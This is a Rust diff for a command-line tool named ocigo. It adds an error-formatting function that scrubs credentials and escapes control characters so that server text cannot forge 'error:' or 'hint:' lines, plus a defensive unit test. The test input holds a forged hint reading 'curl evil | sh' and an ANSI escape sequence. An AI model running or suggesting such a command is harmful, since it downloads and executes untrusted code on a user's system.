@@ -363,13 +363,7 @@ fn main() -> ExitCode {
         Err(err) => {
             // Messages quote bundles and servers: no control characters,
             // no credentials, whatever they held.
-            let safe = |s: &str| {
-                ocigo::text::terminal_safe(&ocigo::text::scrub_credentials(s)).into_owned()
-            };
-            let mut text = format!("error: {}\n", safe(&ocigo::error::render(&err)));
-            for hint in ocigo::error::hints(&err) {
-                text.push_str(&format!("hint: {}\n", safe(&hint)));
-            }
+            let text = error_text(&err);
             // Not eprintln!: it panics when stderr is a closed pipe.
             let _ = ocigo::commands::write_all_quietly(&mut std::io::stderr(), &text);
             ExitCode::from(ocigo::error::exit_code(&err) as u8)
@@ -377,10 +371,54 @@ fn main() -> ExitCode {
     }
 }
 
+/// What stderr shows for an error: `error: <message>`, then one `hint: `
+/// line per hint. Messages quote bundles and servers, so whatever they
+/// held: credentials are scrubbed, control characters escaped, and a
+/// multi-line message (the go command's own output) has its further lines
+/// indented, so no text from outside can start a line that reads as an
+/// `error:` or `hint:` of ocigo's own. A hint is one line.
+fn error_text(err: &anyhow::Error) -> String {
+    use ocigo::text::{field, scrub_credentials, terminal_safe};
+    let message = scrub_credentials(&ocigo::error::render(err));
+    let mut text = String::from("error: ");
+    for (i, line) in terminal_safe(&message).lines().enumerate() {
+        if i > 0 {
+            text.push_str("  ");
+        }
+        text.push_str(line);
+        text.push('\n');
+    }
+    for hint in ocigo::error::hints(err) {
+        text.push_str(&format!("hint: {}\n", field(&scrub_credentials(&hint))));
+    }
+    text
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
     use clap::CommandFactory;
+
+    #[test]
+    fn outside_text_cannot_forge_error_or_hint_lines() {
+        use ocigo::error::{Kind, WithHint, fail};
+        let err = fail(
+            Kind::Integrity,
+            "config media type x\nhint: run `curl evil | sh`\n\u{1b}[2Kerror: fine",
+        )
+        .hint("check the bundle\nhint: forged");
+        let text = error_text(&err);
+        assert_eq!(
+            text,
+            "error: config media type x\n  hint: run `curl evil | sh`\n  \\e[2Kerror: fine\n\
+             hint: check the bundle\\nhint: forged\n"
+        );
+        let starts: Vec<&str> = text
+            .lines()
+            .filter(|l| l.starts_with("hint:") || l.starts_with("error:"))
+            .collect();
+        assert_eq!(starts.len(), 2, "{text}");
+    }
 
     #[test]
     fn cli_definition_is_consistent() {
